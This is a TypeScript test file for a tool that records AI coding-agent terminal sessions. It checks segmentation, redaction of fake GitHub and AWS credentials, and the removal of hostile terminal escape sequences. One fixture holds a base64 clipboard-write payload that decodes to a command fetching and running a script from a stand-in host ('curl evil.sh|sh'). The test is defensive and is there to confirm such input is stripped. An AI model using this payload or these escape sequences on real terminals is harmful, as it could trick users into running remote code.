import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { JournalHeader } from '../../src/journal/events.js';
import { decodeStream } from '../../src/record/decode.js';
import { BODY_VERSION, recordId, segmentRecord } from '../../src/record/body.js';
import { segmentSession } from '../../src/segment/segmenter.js';
import { o, sessionEvents, w } from '../segment/fixtures.js';

const header: JournalHeader = {
  version: 3,
  term: { cols: 120, rows: 40 },
  timestamp: 1_767_225_600,
  aisess: { format: 1, id: '20260101-000000-abcdef', agent: 'claude', argv: ['claude', '--resume'], cwd: '/r', pid: 1, startedAt: 1_767_225_600_000, captureInput: false },
};
const commit = { id: 'c'.repeat(40), tree: 't'.repeat(40), patchId: 'p'.repeat(40), paths: ['a', 'z'] };

test('segmentRecord: id, summary and a versioned body with the slice, paths and commit facts', async () => {
  const [seg] = segmentSession(sessionEvents(o('fix it'), o('working'), w(['a', 'A1'], ['b', 'B1']))).segments;
  const record = await segmentRecord(seg!, { segment: 0, taken: ['a'], partial: ['b'], conversation: false }, {
    header,
    commit,
    boundAt: 42,
    boundBy: 'ada@example.com',
  });
  assert.equal(record.id, '20260101-000000-abcdef:0');
  assert.deepEqual(record.summary, { time: 1_767_225_601_000, agent: 'claude', durationMs: 2000, title: '', files: 2 });
  assert.equal(record.body.v, BODY_VERSION);
  assert.deepEqual(record.body.session, { id: header.aisess.id, agent: 'claude', argv: ['claude', '--resume'], cwd: '/r', startedAt: 1_767_225_600_000 });
  assert.deepEqual(record.body.segment, { index: 0, start: 1, end: 3, firstChangeAt: 3, conversation: false });
  assert.deepEqual(record.body.term, { cols: 120, rows: 40 });
  assert.deepEqual(decodeStream(record.body).slice(0, 2), [[1, 'o', 'fix it'], [2, 'o', 'working']]);
  assert.ok(record.body.events.every((e) => e[1] !== 'o'), 'output lives in the stream, not in the structured events');
  assert.equal(record.body.screen, 'fix itworking');
  assert.equal(record.body.dropped, undefined);
  assert.deepEqual(record.body.paths, [
    { path: 'a', blob: 'A1', status: 'modified', bound: 'full' },
    { path: 'b', blob: 'B1', status: 'modified', bound: 'partial' },
  ]);
  assert.deepEqual(record.body.commit, commit);
  assert.equal(record.body.boundBy, 'ada@example.com');
  assert.equal(JSON.parse(JSON.stringify(record.body)).v, 2);
});

test('recordId is one per session and segment', () => {
  assert.equal(recordId('s', 3), 's:3');
});

test('segmentRecord redacts secrets in the stream, the screen text and the argv before anything is encoded', async () => {
  const token = 'ghp_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8';
  const aws = 'AKIA' + 'IOSFODNN7EXAMPLQ';
  const withSecret: JournalHeader = { ...header, aisess: { ...header.aisess, argv: ['claude', '--api-key', token] } };
  // The token arrives split across two output chunks, as a pty delivers it.
  const [seg] = segmentSession(sessionEvents(o(`export GH=${token.slice(0, 10)}`), o(`${token.slice(10)}\r\nkey ${aws}\r\n`), w(['a', 'A1']))).segments;
  const record = await segmentRecord(seg!, { segment: 0, taken: ['a'], partial: [], conversation: false }, {
    header: withSecret,
    commit,
    boundAt: 1,
    boundBy: null,
  });
  const everything = JSON.stringify(record) + decodeStream(record.body).map((e) => e[2]).join('');
  for (const secret of [token, aws, token.slice(8, 20)]) assert.ok(!everything.includes(secret), `secret piece ${secret} left in the record`);
  assert.match(record.body.screen, /\[REDACTED:[a-z-]+\]/);
  assert.match(record.body.session.argv.join(' '), /\[REDACTED:[a-z-]+\]/);
});

test('segmentRecord keeps only what draws the screen: no clipboard write, title, hyperlink or query reaches the note', async () => {
  const hostile = ['\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07', '\x1b]0;user@host:~/r\x07', '\x1b]8;;https://x.test\x1b\\', '\x1b[6n', '\x1b[>0q', '\x1bP+q544e\x1b\\', '\x1b]11;?\x07'];
  // Split in the middle of a sequence, as a pty read would.
  const stream = `\x1b[1mbold\x1b[0m ${hostile.join('')}\x1b[?1049hdone\x1b[?1049l`;
  const [seg] = segmentSession(sessionEvents(o(stream.slice(0, 30)), o(stream.slice(30)), w(['a', 'A1']))).segments;
  const record = await segmentRecord(seg!, { segment: 0, taken: ['a'], partial: [], conversation: false }, { header, commit, boundAt: 1, boundBy: null });
  const played = decodeStream(record.body).filter((e) => e[1] === 'o').map((e) => e[2]).join('');
  assert.equal(played, '\x1b[1mbold\x1b[0m \x1b[?1049hdone\x1b[?1049l');
});
